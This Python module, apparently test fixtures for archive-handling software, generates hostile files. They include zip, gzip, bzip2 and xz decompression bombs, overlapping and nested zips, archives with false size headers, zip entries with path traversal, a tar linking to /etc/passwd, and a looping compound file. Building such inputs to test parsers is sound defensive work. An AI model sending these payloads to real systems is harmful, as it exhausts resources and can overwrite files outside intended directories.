"""Archives made to exhaust whoever opens them. Each function returns the bytes of one file."""

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib

LARGE = 300_000_000
"""Bytes: more than may be taken out of one file."""


def zipped(files, kind=zipfile.ZIP_DEFLATED):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", kind) as archive:
        for name, content in files:
            archive.writestr(name, content)
    return file.getvalue()


BLOCK = b"0" * 1_000_000


def noughts(count):
    """So many digits 0 as zlib packs them, without ever having them all."""
    packer = zlib.compressobj(1, zlib.DEFLATED, -15)
    return b"".join(packer.compress(BLOCK) for _ in range(count // len(BLOCK))) + packer.flush()


def zip_entry(name, packed, size, crc=0, offset=0):
    """A local header with its data, and the entry of the directory that points to it."""
    fields = struct.pack("<HHHHHLLLHH", 20, 0x800, 8, 0, 0x21, crc, len(packed), size, len(name), 0)
    local = b"PK\x03\x04" + fields + name + packed
    return local, b"PK\x01\x02" + struct.pack("<H", 20) + fields + struct.pack("<HHHLL", 0, 0, 0, 0, offset) + name


def zip_of(local, entries):
    directory = b"".join(entries)
    count = min(len(entries), 0xFFFF)
    return (
        local + directory + b"PK\x05\x06" + struct.pack("<HHHHLLH", 0, 0, count, count, len(directory), len(local), 0)
    )


def flat_zip_bomb():
    local, entry = zip_entry(b"a.txt", noughts(LARGE), LARGE)
    return zip_of(local, [entry])


def overlapping_zip_bomb():
    packed, crc = noughts(8_000_000), zlib.crc32(BLOCK * 8)
    local, entry = zip_entry(b"00000.txt", packed, 8_000_000, crc)
    return zip_of(local, [entry] * 50_000)


def nested_zip_bomb():
    data = zipped([("0.txt", BLOCK * 40)])
    for _ in range(5):
        data = zipped([(f"{n}.zip", data) for n in range(16)])
    return data


def deep_zip():
    data = zipped([("0.txt", "深")])
    for _ in range(100):
        data = zipped([("in.zip", data)])
    return data


def crowded_zip():
    return zipped(((f"{n}.txt", "x") for n in range(100_000)), zipfile.ZIP_STORED)


def boasting_zip():
    local, entry = zip_entry(b"a.txt", zlib.compress(b"x" * 100)[2:-4], 0xFFFFFFF0)
    return zip_of(local, [entry])


def traversing_zip():
    return zipped([("../../../../tmp/streammon-was-here.txt", "甲"), ("/etc/passwd.txt", "乙"), ("C:\\a.txt", "丙")])


def gzip_bomb():
    return b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + noughts(LARGE) + struct.pack("<LL", 0, LARGE & 0xFFFFFFFF)


def nested_gzip_bomb():
    data = gzip_bomb()
    for _ in range(50):
        data = gzip.compress(data)
    return data


def bzip2_bomb():
    packer = bz2.BZ2Compressor(9)
    return b"".join(packer.compress(BLOCK) for _ in range(LARGE // len(BLOCK))) + packer.flush()


def xz_bomb():
    packer = lzma.LZMACompressor(preset=0)
    return b"".join(packer.compress(BLOCK) for _ in range(LARGE // len(BLOCK))) + packer.flush()


def xz_with_giant_dictionary():
    return lzma.compress(b"x" * 100, filters=[{"id": lzma.FILTER_LZMA2, "preset": 0, "dict_size": 1_500_000_000}])


def boasting_tar():
    info = tarfile.TarInfo("a.txt")
    info.size = 0o77777777777
    return info.tobuf() + b"x" * 10_000


def crowded_tar():
    return b"".join(tarfile.TarInfo(f"{n}.txt").tobuf() for n in range(20_000)) + bytes(1024)


def boasting_seven_zip():
    return b"7z\xbc\xaf\x27\x1c\0\4" + struct.pack("<LQQL", 0, 0, 1 << 40, 0) + bytes(100)


def tar_of_links():
    """Links out of the archive, a device, and a link to a link."""
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as archive:
        for name, kind, target in (
            ("a.txt", tarfile.SYMTYPE, "/etc/passwd"),
            ("b.txt", tarfile.LNKTYPE, "a.txt"),
            ("c.txt", tarfile.CHRTYPE, ""),
        ):
            info = tarfile.TarInfo(name)
            info.type, info.linkname = kind, target
            archive.addfile(info)
    return packed.getvalue()


def compound_file_in_a_ring():
    """Every sector is said to be followed by sector 0."""
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<5H", 0x3E, 3, 0xFFFE, 9, 6) + bytes(10)
    head += struct.pack("<9L", 1, 0, 0, 4096, 0, 0, 0, 0, 0)
    return head.ljust(512, b"\0") + struct.pack("<L", 0) * 128 * 20


ALL = (
    *(tar_of_links, compound_file_in_a_ring),
    *(flat_zip_bomb, overlapping_zip_bomb, nested_zip_bomb, deep_zip, crowded_zip, boasting_zip, traversing_zip),
    *(gzip_bomb, nested_gzip_bomb, bzip2_bomb, xz_bomb, xz_with_giant_dictionary),
    *(boasting_tar, crowded_tar, boasting_seven_zip),
)
